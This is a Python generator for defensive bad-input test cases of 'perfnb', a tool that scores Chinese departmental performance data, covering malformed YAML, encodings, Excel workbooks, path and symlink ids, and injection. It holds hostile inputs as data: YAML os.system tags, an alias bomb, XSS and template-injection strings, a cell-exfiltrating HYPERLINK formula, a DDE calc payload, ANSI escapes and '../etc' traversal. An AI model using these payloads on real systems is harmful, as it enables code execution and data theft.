"""Bad-input cases about files: YAML, schemes, encodings, workbooks, ids and paths, markup and injection.

Every case is prefixed ``f-`` and is a real file tree under ``tests/bad_inputs/<case>/``.
Rebuild them all with ``python -m tests.bad_inputs.generate_files`` (from the repository root);
stale ``f-`` cases are removed first.

Each case's ``expected.yaml`` states the *correct* outcome: where perfnb falls short of it, the
case fails until the package is fixed (see the notes in the cases).
"""

from __future__ import annotations

import csv
import io
import os
import random
import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl

from tests.bad_inputs.harness import (
    BASE,
    CASES,
    DEPT,
    ROOT,
    expect,
    new_case,
    read_csv,
    read_yaml,
    set_cell,
    write_csv,
    write_yaml,
)

PREFIX = "f-"
TABLE_FILES = ("projects", "funds", "indicators", "narrative_targets", "reported_figures")
BASE_YAML = (BASE / "department.yaml").read_text(encoding="utf-8")

#: The file a successful code execution would create (tests assert it never appears).
PWNED = "PWNED"
#: Markup, template and code-injection text put into every free-text field by the injection cases.
#: ``[[{{ 7*7 }}]]`` becomes ``[[49]]`` only if something renders data as a template.
PAYLOAD = (
    "<script>alert(1)</script> [[{{ 7*7 }}]] {% raw %}{% if %}{% endraw %} {# c #} "
    "\"; __import__('os').system('touch PWNED'); \" '; __import__('os').system('touch PWNED'); '\n"
    "second line \"\"\" ''' ${7*7} $(touch PWNED) `touch PWNED` &amp; <img src=x onerror=alert(2)>"
)
#: Text that Excel would run as a formula if a report workbook stored it unprotected.
EXCEL_PAYLOAD = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'

GENERATORS: list[Callable[[], None]] = []


def case(func: Callable[[], None]) -> Callable[[], None]:
    GENERATORS.append(func)
    return func


def header_text(case_name: str, text: str) -> Path:
    """A new case whose department.yaml is replaced by ``text`` (written as UTF-8, byte for byte)."""
    dept = new_case(case_name)
    (dept / "department.yaml").write_bytes(text.encode("utf-8"))
    return dept


def base_yaml(dept_id: str = DEPT) -> str:
    """The base department.yaml as text, with id ``dept_id``."""
    return BASE_YAML.replace("id: synthetic-national-2024", f"id: {dept_id}", 1)


def line_of(text: str, prefix: str) -> int:
    """The 1-based line number of the first line of ``text`` starting with ``prefix``."""
    for n, line in enumerate(text.splitlines(), 1):
        if line.startswith(prefix):
            return n
    raise KeyError(prefix)


def relink(link: Path, target: str) -> None:
    """Make ``link`` a relative symlink to ``target`` (replacing what is there)."""
    if link.is_symlink() or link.is_file():
        link.unlink()
    elif link.is_dir():
        shutil.rmtree(link)
    os.symlink(target, link)


# ---- YAML ---------------------------------------------------------------------------------------


@case
def yaml_bad_indent() -> None:
    text = base_yaml().replace("  title: ", "    title: ", 1)  # source.title deeper than source.file
    header_text("f-yaml-bad-indent", text)
    expect(
        "f-yaml-bad-indent",
        contains=["bad-dept/department.yaml", f"第 {line_of(text, '    title:')} 行", "YAML 格式错误"],
    )


@case
def yaml_unclosed_quote() -> None:
    text = base_yaml().replace("region: 某省某市", 'region: "某省某市', 1)
    header_text("f-yaml-unclosed-quote", text)
    expect(
        "f-yaml-unclosed-quote",
        contains=["bad-dept/department.yaml", "YAML 格式错误", f"第 {line_of(text, 'region:')} 行"],
        note="correct: the line where the quote opens is named (today only the end of the file is)",
    )


@case
def yaml_tab() -> None:
    text = base_yaml().replace("  title: ", "\ttitle: ", 1)
    header_text("f-yaml-tab", text)
    expect("f-yaml-tab", contains=["bad-dept/department.yaml", f"第 {line_of(text, chr(9))} 行", "YAML 格式错误"])


@case
def yaml_python_tag() -> None:
    """A tag that an unsafe loader would execute: safe loading must reject it, and nothing runs."""
    text = base_yaml().replace(
        "name: 某市市场监督管理局（知识产权局）", f'name: !!python/object/apply:os.system ["touch {PWNED}"]', 1
    )
    text += '\nextra: !!python/object/apply:os.system ["echo pwned"]\n'
    header_text("f-yaml-python-tag", text)
    expect(
        "f-yaml-python-tag",
        contains=[
            "bad-dept/department.yaml",
            f"第 {line_of(text, 'name:')} 行",
            "YAML 格式错误",
            "python/object/apply",
        ],
        note="safe loading: the tag is refused and no command runs (tests/format/test_bad_inputs_files.py: "
        "no file PWNED, no 'pwned' on stdout)",
    )


@case
def yaml_anchors() -> None:
    """Anchors and aliases that resolve to plain, valid data are accepted (YAML is YAML)."""
    text = base_yaml()
    text = text.replace("annual_goal: |-", "annual_goal: &goal |-", 1)
    text = text.replace("source:\n", "source: &src\n", 1)
    text += "long_term_goal: *goal\n"
    header_text("f-yaml-anchors", text)
    expect(
        "f-yaml-anchors",
        exit=0,
        contains=["bad-dept  有效", "共 1 个部门：1 个有效，0 个无效"],
        note="accepted: anchors/aliases resolving to plain valid data are ordinary YAML",
    )


@case
def yaml_alias_bomb() -> None:
    """A 'billion laughs' alias bomb (9^7 ≈ 4.8 million nominal leaves): refused quickly, no blow-up."""
    lines = ['lol0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 7):
        prev = f"*l{i - 1}"
        lines.append(f"lol{i}: &l{i} [{', '.join([prev] * 9)}]")
    text = base_yaml().replace("notes: |-", "notes_old: |-", 1) + "\n".join(lines) + "\nnotes: *l6\n"
    header_text("f-yaml-alias-bomb", text)
    expect(
        "f-yaml-alias-bomb",
        contains=["bad-dept/department.yaml", "列 notes", "应为文本", "列 lol6", "未知字段"],
        absent=["lollol", "'lol', 'lol'"],
    )


@case
def yaml_deep_nesting() -> None:
    """Deeply nested flow collections: must be refused with a message, not a RecursionError."""
    depth = 5000
    text = base_yaml().replace("notes: |-", "notes_old: |-", 1) + "notes: " + "[" * depth + "]" * depth + "\n"
    header_text("f-yaml-deep-nesting", text)
    expect(
        "f-yaml-deep-nesting",
        contains=["bad-dept/department.yaml", "[错误]"],
        absent=["RecursionError"],
        note="correct: rejected as too deeply nested (or not text), never a crash",
    )


@case
def yaml_list() -> None:
    text = "- id: bad-dept\n- name: 某市市场监督管理局\n"
    header_text("f-yaml-list", text)
    expect("f-yaml-list", contains=["bad-dept/department.yaml", "内容不是键值对", "YAML 映射"])


@case
def yaml_empty() -> None:
    header_text("f-yaml-empty", "# 只有注释\n")
    expect("f-yaml-empty", contains=["bad-dept/department.yaml", "内容不是键值对"])


@case
def yaml_unknown_key() -> None:
    text = base_yaml() + "\nbudget_total: 120.00\n"
    header_text("f-yaml-unknown-key", text)
    expect(
        "f-yaml-unknown-key",
        contains=[f"bad-dept/department.yaml 第 {line_of(text, 'budget_total')} 行 列 budget_total", "未知字段"],
    )


@case
def yaml_missing_key() -> None:
    text = base_yaml().replace("fiscal_year: 2024\n", "", 1)
    header_text("f-yaml-missing-key", text)
    expect("f-yaml-missing-key", contains=["bad-dept/department.yaml", "列 fiscal_year", "缺少必填项"])


@case
def yaml_duplicate_key() -> None:
    """The same key twice: YAML loaders keep the last silently; perfnb must refuse, not pick one."""
    text = base_yaml().replace("fiscal_year: 2024\n", "fiscal_year: 2024\nfiscal_year: 2023\n", 1)
    header_text("f-yaml-duplicate-key", text)
    expect(
        "f-yaml-duplicate-key",
        contains=["bad-dept/department.yaml", f"第 {line_of(text, 'fiscal_year') + 1} 行", "fiscal_year", "重复"],
        note="correct: a duplicated key is an error naming the key and its line (data would be lost otherwise)",
    )


@case
def yaml_implicit_bool() -> None:
    """``region: no`` is YAML 1.1 for false: it must not silently become the text 'False'."""
    text = base_yaml().replace("region: 某省某市", "region: no", 1)
    header_text("f-yaml-implicit-bool", text)
    expect(
        "f-yaml-implicit-bool",
        contains=[f"bad-dept/department.yaml 第 {line_of(text, 'region')} 行 列 region", "应为文本"],
        note="correct: a YAML boolean where text is expected is an error (or kept as written 'no'), never 'False'",
    )


# ---- schemes ------------------------------------------------------------------------------------

SCHEME_YAML = (ROOT / "perfnb" / "data" / "schemes" / "mof-2020-project.yaml").read_text(encoding="utf-8")


def own_scheme(case_name: str, scheme_text: str | bytes, name: str = "bad-dept-scheme") -> Path:
    """A case whose department brings its own scheme.yaml (named ``name`` in department.yaml)."""
    dept = new_case(case_name)
    header = read_yaml(dept / "department.yaml")
    header["scheme"] = name
    write_yaml(dept / "department.yaml", header)
    data = scheme_text if isinstance(scheme_text, bytes) else scheme_text.encode("utf-8")
    (dept / "scheme.yaml").write_bytes(data)
    return dept


def scheme_text(name: str = "bad-dept-scheme") -> str:
    return SCHEME_YAML.replace("name: mof-2020-project", f"name: {name}", 1)


@case
def scheme_unknown() -> None:
    dept = new_case("f-scheme-unknown")
    header = read_yaml(dept / "department.yaml")
    header["scheme"] = "mof-2099-project"
    write_yaml(dept / "department.yaml", header)
    expect(
        "f-scheme-unknown",
        contains=["bad-dept/department.yaml", "列 scheme", "评分方案“mof-2099-project”不存在", "mof-2020-project"],
    )


@case
def scheme_weights() -> None:
    text = scheme_text().replace("  - name: 满意度\n    weight: 10", "  - name: 满意度\n    weight: 20", 1)
    own_scheme("f-scheme-weights", text)
    expect(
        "f-scheme-weights",
        contains=["bad-dept/scheme.yaml", "评分方案文件有误", "110", "100"],
        absent=["Value error", "add up to 100, not 100"],
        note="sections 50+30+20 plus execution 10 make 110, not the total 100: the message must say 110, in Chinese",
    )


@case
def scheme_part_weights() -> None:
    text = scheme_text().replace("parts: [{name: 服务对象满意度}]", "parts: [{name: 服务对象满意度, weight: 8}]", 1)
    own_scheme("f-scheme-part-weights", text)
    expect(
        "f-scheme-part-weights",
        contains=["bad-dept/scheme.yaml", "评分方案文件有误", "满意度", "8", "10"],
        absent=["Value error"],
        note="the only part of 满意度 (10 points) weighs 8",
    )


@case
def scheme_python_tag() -> None:
    text = scheme_text().replace("title: ", f'title: !!python/object/apply:os.system ["touch {PWNED}"]\nold_title: ', 1)
    own_scheme("f-scheme-python-tag", text)
    expect(
        "f-scheme-python-tag",
        contains=[
            "bad-dept/scheme.yaml 第 " + str(line_of(text, "title:")) + " 行",
            "不是有效的 YAML",
            "python/object/apply",
        ],
        absent=["<unicode string>"],
        note="safe loading: refused, nothing executed (no file PWNED appears); one line naming the row",
    )


@case
def scheme_wrong_types() -> None:
    text = scheme_text().replace("total: 100", "total: 一百分", 1).replace("places: 2", "places: [2]", 1)
    own_scheme("f-scheme-wrong-types", text)
    expect(
        "f-scheme-wrong-types",
        contains=["bad-dept/scheme.yaml", "评分方案文件有误", "total"],
        absent=["Input should be"],
        note="correct: the reason in Chinese, like department.yaml's",
    )


@case
def scheme_list() -> None:
    own_scheme("f-scheme-list", "- name: bad-dept-scheme\n- mode: national_project\n")
    expect(
        "f-scheme-list",
        contains=["bad-dept/scheme.yaml", "评分方案文件有误", "键值对"],
        absent=["Input should be"],
        note="correct: says in Chinese that the file must be a mapping, like department.yaml",
    )


@case
def scheme_name_mismatch() -> None:
    own_scheme("f-scheme-name-mismatch", scheme_text("another-scheme"))
    expect(
        "f-scheme-name-mismatch",
        contains=["bad-dept/scheme.yaml", "another-scheme", "bad-dept-scheme", "与 department.yaml 的 scheme 不同"],
    )


@case
def scheme_gbk() -> None:
    """scheme.yaml saved as GBK: read like other text files (GB18030, with a warning) or refused clearly."""
    own_scheme("f-scheme-gbk", scheme_text().replace("−", "-").replace("–", "-").encode("gbk"))
    expect(
        "f-scheme-gbk",
        exit=0,
        contains=["bad-dept/scheme.yaml", "GB18030"],
        note="correct: like department.yaml and the CSV files (README “Encodings”), read as GB18030 with a warning",
    )


# ---- encodings ----------------------------------------------------------------------------------


def reencode(path: Path, encoding: str, prefix: bytes = b"") -> None:
    path.write_bytes(prefix + path.read_text(encoding="utf-8").encode(encoding))


@case
def enc_bom() -> None:
    dept = new_case("f-enc-utf8-bom")
    for name in ("indicators.csv", "funds.csv"):
        reencode(dept / name, "utf-8", b"\xef\xbb\xbf")
    (dept / "department.yaml").write_bytes(b"\xef\xbb\xbf" + (dept / "department.yaml").read_bytes())
    expect("f-enc-utf8-bom", exit=0, contains=["bad-dept  有效"], absent=["[错误]", "GB18030", "未知列名"])


@case
def enc_gb18030() -> None:
    dept = new_case("f-enc-gb18030")
    reencode(dept / "indicators.csv", "gb18030")
    expect(
        "f-enc-gb18030", exit=0, contains=["[警告] bad-dept/indicators.csv", "GB18030/GBK", "UTF-8", "bad-dept  有效"]
    )


@case
def enc_gbk() -> None:
    dept = new_case("f-enc-gbk")
    reencode(dept / "projects.csv", "gbk")
    expect("f-enc-gbk", exit=0, contains=["[警告] bad-dept/projects.csv", "GB18030/GBK", "bad-dept  有效"])


@case
def enc_utf16() -> None:
    dept = new_case("f-enc-utf16")
    reencode(dept / "funds.csv", "utf-16")  # with its BOM, as Excel's "Unicode text" saves
    expect("f-enc-utf16", contains=["[错误] bad-dept/funds.csv", "UTF-16", "UTF-8"])


@case
def enc_utf16_no_bom() -> None:
    dept = new_case("f-enc-utf16-no-bom")
    reencode(dept / "funds.csv", "utf-16-le")
    expect("f-enc-utf16-no-bom", contains=["[错误] bad-dept/funds.csv", "UTF-8"])


@case
def enc_binary() -> None:
    dept = new_case("f-enc-binary")
    rng = random.Random(20240)
    junk = bytes(rng.randrange(256) for _ in range(2048)) + b"\x00\x00\x00"
    (dept / "narrative_targets.csv").write_bytes(junk)
    expect("f-enc-binary", contains=["[错误] bad-dept/narrative_targets.csv", "二进制内容"])


@case
def enc_undecodable() -> None:
    dept = new_case("f-enc-undecodable")
    data = (dept / "reported_figures.csv").read_bytes()
    (dept / "reported_figures.csv").write_bytes(data.replace("预算执行率".encode(), b"\xff\xfe\xff", 1))
    expect("f-enc-undecodable", contains=["[错误] bad-dept/reported_figures.csv", "文件编码无法识别", "UTF-8"])


@case
def enc_yaml_gbk() -> None:
    dept = new_case("f-enc-yaml-gbk")
    reencode(dept / "department.yaml", "gbk")
    expect("f-enc-yaml-gbk", exit=0, contains=["[警告] bad-dept/department.yaml", "GB18030/GBK", "bad-dept  有效"])


# ---- workbooks ----------------------------------------------------------------------------------

_NUMBER = re.compile(r"^-?\d+(?:\.(\d+))?$")


def to_workbook(dept: Path) -> Path:
    """Replace the CSV files by ``department.xlsx``, numbers as numeric cells showing their decimals."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name in TABLE_FILES:
        sheet = book.create_sheet(name)
        with (dept / f"{name}.csv").open(encoding="utf-8-sig", newline="") as handle:
            for r, record in enumerate(csv.reader(handle), 1):
                for c, text in enumerate(record, 1):
                    cell = sheet.cell(row=r, column=c)
                    m = _NUMBER.match(text)
                    if m and r > 1:
                        cell.value = float(text)
                        cell.number_format = "0." + "0" * len(m.group(1)) if m.group(1) else "0"
                    else:
                        cell.value = text or None
        (dept / f"{name}.csv").unlink()
    path = dept / "department.xlsx"
    save(book, path)
    return path


def save(book: openpyxl.Workbook, path: Path) -> None:
    """Save a workbook byte for byte the same on every run: fixed timestamps in the file and its zip entries."""
    buffer = io.BytesIO()
    book.save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", data)
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=(2024, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    path.write_bytes(out.getvalue())


def workbook_case(case_name: str, change: Callable[[openpyxl.Workbook], None]) -> Path:
    dept = new_case(case_name)
    path = to_workbook(dept)
    book = openpyxl.load_workbook(path)
    change(book)
    save(book, path)
    return dept


@case
def xlsx_valid() -> None:
    """The control: the base department as a workbook is valid (so the other xlsx cases test one thing)."""
    workbook_case("f-xlsx-valid", lambda book: None)
    expect("f-xlsx-valid", exit=0, contains=["bad-dept  有效", "指标 10"])


@case
def xlsx_missing_sheet() -> None:
    workbook_case("f-xlsx-missing-sheet", lambda book: book.remove(book["narrative_targets"]))
    expect("f-xlsx-missing-sheet", contains=["[错误] bad-dept/department.xlsx", "工作簿缺少工作表 narrative_targets"])


def _merge(book: openpyxl.Workbook, sheet: str, cells: str) -> None:
    book[sheet].merge_cells(cells)


@case
def xlsx_merged_level1() -> None:
    """level1 merged over rows 2–7 (产出指标), as printed tables often are: rows 3–7 must not read as blank."""
    workbook_case("f-xlsx-merged-level1", lambda book: _merge(book, "indicators", "C2:C7"))
    expect(
        "f-xlsx-merged-level1",
        contains=["bad-dept/department.xlsx[indicators]", "C2:C7", "合并"],
        note="correct: the merged range is named as merged cells (the values are not copied down silently)",
    )


@case
def xlsx_merged_level2() -> None:
    """level2 (optional) merged over rows 2–3: row 3 would silently lose its 数量指标."""
    workbook_case("f-xlsx-merged-level2", lambda book: _merge(book, "indicators", "D2:D3"))
    expect(
        "f-xlsx-merged-level2",
        contains=["bad-dept/department.xlsx[indicators]", "D2:D3", "合并"],
        note="correct: rejected naming the merged range; today row 3's level2 is read as blank and the "
        "department is valid (data lost)",
    )


def _formula(book: openpyxl.Workbook) -> None:
    sheet = book["funds"]
    sheet["J2"] = "=SUM(J3:J5)"  # f-p1's budget as a formula of its parts


@case
def xlsx_formula() -> None:
    workbook_case("f-xlsx-formula", _formula)
    expect(
        "f-xlsx-formula",
        contains=[
            "[错误] bad-dept/department.xlsx[funds] 第 2 行 列 budget",
            "单元格是公式，不是数值",
            "=SUM(J3:J5)",
            "选择性粘贴",
        ],
    )


def _hide(book: openpyxl.Workbook) -> None:
    book["indicators"].row_dimensions[4].hidden = True


@case
def xlsx_hidden_row() -> None:
    """A hidden row is data (never dropped) but the auditor looking at Excel does not see it: warn."""
    workbook_case("f-xlsx-hidden-row", _hide)
    expect(
        "f-xlsx-hidden-row",
        exit=0,
        contains=["[警告] bad-dept/department.xlsx[indicators] 第 4 行", "隐藏", "指标 10"],
        note="decided: hidden rows are read (no data lost) with a warning naming the row",
    )


def _percent(book: openpyxl.Workbook) -> None:
    cell = book["indicators"]["L4"]  # i3's actual, typed as Excel keeps "99.2%": the number 0.992, shown as a percent
    cell.value = 0.992
    cell.number_format = "0.0%"


@case
def xlsx_percent_cell() -> None:
    """A cell Excel shows as 99.2% holds 0.992: it must be read as shown (99.2%), never as 1.0 or 0.992."""
    workbook_case("f-xlsx-percent-cell", _percent)
    expect(
        "f-xlsx-percent-cell",
        command="check",
        exit=0,
        contains=["bad-dept  总分 95.03（原文 95.03）", "相符 18、不符 0、无法复核 1"],
        note="correct: read as 99.2% (as displayed) or refused naming the cell; today the cell is read as 1.0 and "
        "the indicator can no longer be checked",
    )


def _error_value(book: openpyxl.Workbook) -> None:
    cell = book["funds"]["N3"]  # f-p1-cur's executed
    cell.value = "#REF!"
    cell.data_type = "e"


@case
def xlsx_error_value() -> None:
    workbook_case("f-xlsx-error-value", _error_value)
    expect("f-xlsx-error-value", contains=["[错误] bad-dept/department.xlsx[funds] 第 3 行 列 executed", "#REF!"])


@case
def xlsx_and_csv() -> None:
    dept = workbook_case("f-xlsx-and-csv", lambda book: None)
    shutil.copy(BASE / "indicators.csv", dept / "indicators.csv")
    expect(
        "f-xlsx-and-csv",
        contains=["[错误] bad-dept/department.xlsx", "同时存在 department.xlsx 和 CSV 文件", "indicators.csv"],
    )


@case
def xlsx_not_a_workbook() -> None:
    dept = workbook_case("f-xlsx-not-a-workbook", lambda book: None)
    (dept / "department.xlsx").write_bytes(b"id,name\np1,CSV saved with an .xlsx name\n")
    expect("f-xlsx-not-a-workbook", contains=["[错误] bad-dept/department.xlsx", "无法作为 Excel 工作簿读取"])


# ---- department ids and paths ---------------------------------------------------------------


@case
def id_uppercase_folder() -> None:
    new_case("f-id-uppercase-folder", dept_id="bad-dept", folder="Bad_Dept")
    expect("f-id-uppercase-folder", dept=None, contains=["Bad_Dept", "文件夹名不是有效的部门编号"])


@case
def id_space_folder() -> None:
    new_case("f-id-space-folder", dept_id="bad-dept", folder="bad dept")
    expect("f-id-space-folder", dept=None, contains=["bad dept", "文件夹名不是有效的部门编号"])


@case
def id_traversal() -> None:
    new_case("f-id-traversal")
    expect("f-id-traversal", dept="../etc", contains=["部门编号无效", "../etc", "小写英文字母"], absent=["root:"])


@case
def id_traversal_dept() -> None:
    """``bad-dept/../bad-dept`` names an existing folder, but is not an id."""
    new_case("f-id-traversal-dept")
    expect("f-id-traversal-dept", dept="bad-dept/../bad-dept", contains=["部门编号无效"], absent=["有效  "])


@case
def id_absolute() -> None:
    new_case("f-id-absolute")
    expect("f-id-absolute", dept="/etc", contains=["部门编号无效", "/etc"], absent=["root:"])


def _outside(case_name: str) -> Path:
    """A valid department ``bad-dept`` in ``<case>/outside/``, beside (not inside) the case's raw dir."""
    dept = new_case(case_name)
    outside = CASES / case_name / "outside" / DEPT
    outside.parent.mkdir()
    shutil.move(dept, outside)
    return outside


@case
def id_symlink_folder() -> None:
    """raw/bad-dept is a link to a valid department outside the data directory: refused."""
    _outside("f-id-symlink-folder")
    relink(CASES / "f-id-symlink-folder" / "raw" / DEPT, "../outside/bad-dept")
    expect("f-id-symlink-folder", contains=["部门文件夹是指向数据目录之外的链接，拒绝读取"], absent=["有效  "])


@case
def id_symlink_folder_all() -> None:
    """The same link found by ``validate`` with no id: still refused."""
    _outside("f-id-symlink-folder-all")
    relink(CASES / "f-id-symlink-folder-all" / "raw" / DEPT, "../outside/bad-dept")
    expect("f-id-symlink-folder-all", dept=None, contains=["bad-dept", "指向数据目录之外的链接"], absent=["1 个有效"])


@case
def id_symlink_file() -> None:
    """A data file inside the department folder links to a file outside the data directory: refused."""
    outside = _outside("f-id-symlink-file")
    dept = CASES / "f-id-symlink-file" / "raw" / DEPT
    shutil.copytree(outside, dept)
    relink(dept / "indicators.csv", "../../outside/bad-dept/indicators.csv")
    expect(
        "f-id-symlink-file",
        contains=["[错误] bad-dept/indicators.csv", "链接"],
        absent=["有效  "],
        note="correct: like a linked department folder, a linked data file leading out of the data directory "
        "is refused (today it is read silently)",
    )


@case
def id_symlink_header() -> None:
    """department.yaml links to a file outside: refused, and the outside file's content is not echoed."""
    outside = _outside("f-id-symlink-header")
    dept = CASES / "f-id-symlink-header" / "raw" / DEPT
    shutil.copytree(outside, dept)
    relink(dept / "department.yaml", "../../outside/bad-dept/department.yaml")
    expect(
        "f-id-symlink-header",
        contains=["[错误] bad-dept/department.yaml", "链接"],
        absent=["有效  "],
        note="correct: refused like a linked folder (today it is read silently)",
    )


@case
def id_not_found() -> None:
    new_case("f-id-not-found")
    expect("f-id-not-found", dept="bad-dept-2", contains=["找不到部门文件夹", "bad-dept-2"])


# ---- markup and injection -----------------------------------------------------------------------


def inject(dept: Path, payload: str = PAYLOAD) -> None:
    """Append ``payload`` to every free-text field of department.yaml and every text column of the tables."""
    header = read_yaml(dept / "department.yaml")
    for key in ("name", "region", "long_term_goal", "annual_goal", "notes"):
        header[key] = (header.get(key) or "") + payload
    header["source"] = {k: v + payload for k, v in header["source"].items()}
    header["reconstructions"] = [
        {"where": "资金块 " + payload, "printed": "1OO " + payload, "entered": "100", "evidence": payload}
    ]
    write_yaml(dept / "department.yaml", header)
    text_columns = {
        "projects": ("name", "unit_name", "period", "content", "goal", "ref", "note"),
        "funds": ("group", "line", "ref", "note"),
        "indicators": ("level3", "description", "task", "deviation", "ref", "note"),
        "narrative_targets": ("text", "ref", "note"),
        "reported_figures": ("subject", "formula", "ref", "note"),
    }
    for table, columns in text_columns.items():
        rows = read_csv(dept / f"{table}.csv")
        index = [rows[0].index(c) for c in columns]
        for row in rows[1:]:
            for i in index:
                if table == "funds" and rows[0][i] == "group" and not row[i]:
                    continue  # a group joins parts: keep the blank of the total row blank
                row[i] = row[i] + payload
        write_csv(dept / f"{table}.csv", rows)


@case
def inject_validate() -> None:
    dept = new_case("f-inject-validate")
    inject(dept)
    expect(
        "f-inject-validate",
        exit=0,
        contains=["bad-dept  有效"],
        absent=["[错误]", "[[49]]", "\nsecond line"],
        note="valid data; the summary line shows the name on one line (its newline escaped, as problem values are)",
    )


@case
def inject_run() -> None:
    """Markup, Jinja and Python injection in every text field, through the whole report (``run``)."""
    dept = new_case("f-inject-run")
    inject(dept)
    set_cell(dept / "indicators.csv", "i9", "level3", EXCEL_PAYLOAD)  # i9 (below full marks) is in the workbook
    set_cell(dept / "funds.csv", "f-p1-other", "note", "+cmd|' /C calc'!A0")
    expect(
        "f-inject-run",
        command="run",
        exit=0,
        contains=["bad-dept  完成"],
        absent=["[[49]]", "失败："],
        note="tests/format/test_bad_inputs_files.py reads the reports: escaped, not rendered, nothing executed",
    )


@case
def inject_run_folder() -> None:
    """``run --all`` with a folder whose name is template text and not an id: listed on the index, escaped."""
    dept = new_case("f-inject-run-folder")
    inject(dept, "<b>bold</b> [[{{ 7*7 }}]]")
    shutil.copytree(BASE, dept.parent / "{{ 7+7 }} & co")
    expect(
        "f-inject-run-folder",
        command="run",
        dept=None,
        exit=1,
        contains=["{{ 7+7 }} & co  失败", "文件夹名不是有效的部门编号", "bad-dept  完成"],
        absent=["[[49]]", "14 & co"],
    )


@case
def inject_newline_in_value() -> None:
    """A bad cell whose value holds a newline and a forged problem line: still one line per problem."""
    dept = new_case("f-inject-newline-in-value")
    set_cell(dept / "funds.csv", "f-p1-cur", "budget", "95.00\n[提示] bad-dept  有效")
    expect(
        "f-inject-newline-in-value",
        contains=["[错误] bad-dept/funds.csv 第 3 行 列 budget"],
        absent=["\n[提示] bad-dept  有效"],
        note="correct: a value is shown on the problem's own line (newline escaped), so data cannot forge output",
    )


@case
def inject_ansi() -> None:
    """Terminal escape sequences in a CSV: refused as control characters, never echoed to the terminal."""
    dept = new_case("f-inject-ansi")
    set_cell(dept / "projects.csv", "p1", "name", "某项目\x1b[2J\x1b[31m全部有效\x1b[0m")
    expect(
        "f-inject-ansi",
        contains=["[错误] bad-dept/projects.csv 第 2 行", "控制字符"],
        absent=["\x1b", "引用的编号在 projects.csv 中不存在"],
        note="correct: names the row; and a file that could not be read does not make every reference to it an error",
    )


@case
def inject_ansi_yaml() -> None:
    text = base_yaml().replace("name: 某市市场监督管理局（知识产权局）", 'name: "某市\\e[2J\\e]0;pwned\\a"', 1)
    header_text("f-inject-ansi-yaml", text)
    expect(
        "f-inject-ansi-yaml",
        contains=[f"[错误] bad-dept/department.yaml 第 {line_of(text, 'name:')} 行 列 name", "控制字符"],
        absent=["\x1b"],
        note="correct: control characters produced by YAML escapes are refused like those in a file",
    )


def main() -> None:
    for old in sorted(CASES.glob(f"{PREFIX}*")):
        if old.is_dir() and not old.is_symlink():
            shutil.rmtree(old)
    for generate in GENERATORS:
        generate()
    print(f"{len(GENERATORS)} cases written to {CASES}")


if __name__ == "__main__":
    main()
